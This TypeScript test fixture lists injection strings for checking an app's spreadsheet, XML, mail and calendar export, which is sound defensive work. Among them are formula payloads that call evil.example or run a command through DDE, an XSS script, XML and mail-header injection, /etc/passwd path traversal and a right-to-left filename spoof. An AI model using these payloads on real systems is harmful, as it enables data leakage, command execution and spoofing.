/** A text that somebody may type to do harm, or paste without knowing what is in it. */
export interface HostileText {
  readonly kind: string;
  readonly text: string;
}

const LONGEST_CELL = 32_767;
const SENTENCE = "Báo cáo tiến độ Đại hội cơ sở. ";

/** Texts that have made other programs stumble; one that made ours is kept here with what it was about. */
export const HOSTILE_TEXTS: readonly HostileText[] = [
  { kind: "a formula", text: '=HYPERLINK("http://evil.example/?q="&A1,"Xem")' },
  { kind: "a formula that runs a program", text: "=cmd|' /C calc'!A0" },
  { kind: "a formula behind +", text: '+WEBSERVICE("http://evil.example")' },
  { kind: "a formula behind -", text: "-1+cmd|' /C calc'!A0" },
  { kind: "a formula behind @", text: '@SUM(1,1)&WEBSERVICE("http://evil.example")' },
  { kind: "an apostrophe before a formula", text: "'=1+1" },
  { kind: "a script", text: "<script>alert(1)</script><img src=x onerror=alert(1)>" },
  { kind: "XML that closes what it stands in", text: ']]></t></is></c><c r="A1"><f>1+1</f></c>&lt;&amp;' },
  { kind: "letters from right to left", text: "Họp \u202Excod.exe\u202C ngày \u2067מחר\u2069" },
  { kind: "letters without width", text: "Hội\u200B LHPN\u200D quận\uFEFF Tây\u00AD Hồ" },
  { kind: "a picture of several letters", text: "👩‍👩‍👧‍👦🇻🇳 Hội viên 𠮷" },
  { kind: "half a letter and letters that no file holds", text: "a\ud800b\ufffec\u0000d\u001fe" },
  { kind: "lines and tabs", text: "một\r\nhai\tba\u2028bốn" },
  { kind: "a mail's head", text: "a@b.vn\r\nBcc: nguoi.la@evil.example" },
  { kind: "a calendar's end", text: "x\r\nEND:VCALENDAR;,\\n" },
  { kind: "a name that no sheet may bear", text: "'Kế [1]:*?/\\ hoạch'" },
  { kind: "a name that no file may bear", text: '..\\..\\CON<>:"|?*.' },
  { kind: "a device", text: "NUL" },
  { kind: "a field of a form", text: "{{tong_so}} {{qua_han}}" },
  { kind: "a path", text: "../../../etc/passwd" },
  { kind: "as many letters as a cell holds", text: SENTENCE.repeat(1100).slice(0, LONGEST_CELL) },
  { kind: "one word as long as a cell", text: "x".repeat(LONGEST_CELL) },
];
